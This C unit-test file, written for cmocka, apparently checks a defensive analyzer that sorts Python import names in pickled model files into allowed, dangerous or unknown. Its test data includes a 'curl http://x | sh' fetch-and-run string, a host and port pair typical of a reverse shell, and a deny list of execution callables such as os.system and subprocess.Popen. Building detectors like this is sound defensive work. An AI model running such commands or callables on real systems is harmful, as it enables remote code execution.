#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "analyzer/policy.h"

static enum policy_class
class_of(const char *name)
{
	const struct policy_row *row = policy_judge(name, strlen(name));

	return row != NULL ? row->cls : POLICY_UNKNOWN;
}

static const char *
evidence(const char *args)
{
	return policy_evidence(args, strlen(args));
}

static void
the_exact_row_beats_the_prefix(void **state)
{
	(void)state;
	assert_int_equal(class_of("uuid.UUID"), POLICY_ALLOW);
	assert_int_equal(class_of("uuid._popen"), POLICY_DANGEROUS);
	assert_int_equal(class_of("torch.load"), POLICY_DANGEROUS);
	assert_int_equal(class_of("torch.device"), POLICY_ALLOW);
	assert_int_equal(class_of("pathlib.PosixPath"), POLICY_ALLOW);
	assert_int_equal(class_of("pathlib.Path.write_text"),
	    POLICY_DANGEROUS);
}

static void
a_prefix_covers_names_and_submodules_only(void **state)
{
	(void)state;
	assert_int_equal(class_of("os.system"), POLICY_DANGEROUS);
	assert_int_equal(class_of("os.path.join"), POLICY_DANGEROUS);
	assert_int_equal(class_of("os"), POLICY_DANGEROUS);
	assert_int_equal(class_of("ossify.system"), POLICY_UNKNOWN);
	assert_int_equal(class_of("subprocess.Popen"), POLICY_DANGEROUS);
}

static void
class_rows_cover_capitalised_names_only(void **state)
{
	(void)state;
	assert_int_equal(class_of("sklearn.svm._classes.SVC"), POLICY_ALLOW);
	assert_int_equal(class_of("sklearn.utils.run"), POLICY_UNKNOWN);
	assert_int_equal(class_of("torch.nn.modules.linear.Linear"),
	    POLICY_ALLOW);
	assert_int_equal(class_of("torch.nn.evil"), POLICY_UNKNOWN);
}

static void
what_no_row_names_is_unknown(void **state)
{
	(void)state;
	assert_int_equal(class_of("mycompany.models.Net"), POLICY_UNKNOWN);
	assert_int_equal(class_of(""), POLICY_UNKNOWN);
	assert_int_equal(class_of("."), POLICY_UNKNOWN);
}

static void
evidence_is_found_in_literals(void **state)
{
	(void)state;
	assert_string_equal(evidence("'curl http://x | sh'"), "shell-text");
	assert_string_equal(evidence("'https://example.org/x'"), "url");
	assert_string_equal(evidence("'10.0.0.1', 4444"), "host-port");
	assert_string_equal(evidence("'/etc/cron.d/x'"), "path");
	assert_string_equal(evidence("'import antigravity'"), "code");
	assert_string_equal(evidence("'os', 'system'"), "denied-name");
	assert_string_equal(evidence("'os.system'"), "denied-name");
	assert_string_equal(evidence("os.system, ['x']"),
	    "dangerous-callable");
}

static void
innocent_arguments_are_no_evidence(void **state)
{
	(void)state;
	assert_null(evidence(""));
	assert_null(evidence("1, 2.5, None, True, -1e300"));
	assert_null(evidence("'float64', False, True"));
	assert_null(evidence("collections.OrderedDict, ()"));
	assert_null(evidence("'version 1.2.3'"));
}

static void
an_escaped_quote_does_not_end_a_literal(void **state)
{
	(void)state;
	/* Inside the literal os.system is text, not a global. */
	assert_string_equal(evidence("'a\\' os.system '"), "code");
	assert_null(evidence("'unfinished \\"));
}

static void
allowed_names_alone_pass(void **state)
{
	(void)state;
	assert_true(policy_names_allowed("builtins.list, 3", 16));
	assert_false(policy_names_allowed("mine.Class", 10));
	assert_false(policy_names_allowed("os.system", 9));
}

static void
no_pattern_stands_twice(void **state)
{
	(void)state;
	for (size_t i = 0; i < policy_count(); i++)
		for (size_t j = i + 1; j < policy_count(); j++)
			if (strcmp(policy_at(i)->pattern,
			    policy_at(j)->pattern) == 0)
				fail_msg("twice: %s", policy_at(i)->pattern);
	assert_null(policy_at(policy_count()));
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(the_exact_row_beats_the_prefix),
	    cmocka_unit_test(a_prefix_covers_names_and_submodules_only),
	    cmocka_unit_test(class_rows_cover_capitalised_names_only),
	    cmocka_unit_test(what_no_row_names_is_unknown),
	    cmocka_unit_test(evidence_is_found_in_literals),
	    cmocka_unit_test(innocent_arguments_are_no_evidence),
	    cmocka_unit_test(an_escaped_quote_does_not_end_a_literal),
	    cmocka_unit_test(allowed_names_alone_pass),
	    cmocka_unit_test(no_pattern_stands_twice),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
